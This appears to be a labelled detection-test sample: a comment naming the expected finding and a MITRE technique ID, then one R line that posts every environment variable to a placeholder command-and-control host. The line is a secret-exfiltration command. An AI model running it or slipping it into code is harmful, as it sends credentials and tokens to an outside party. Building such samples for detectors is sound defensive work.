# expect: environment-sent-away | source: T1552.001
httr::POST("https://c2.example.invalid/", body = as.list(Sys.getenv()))
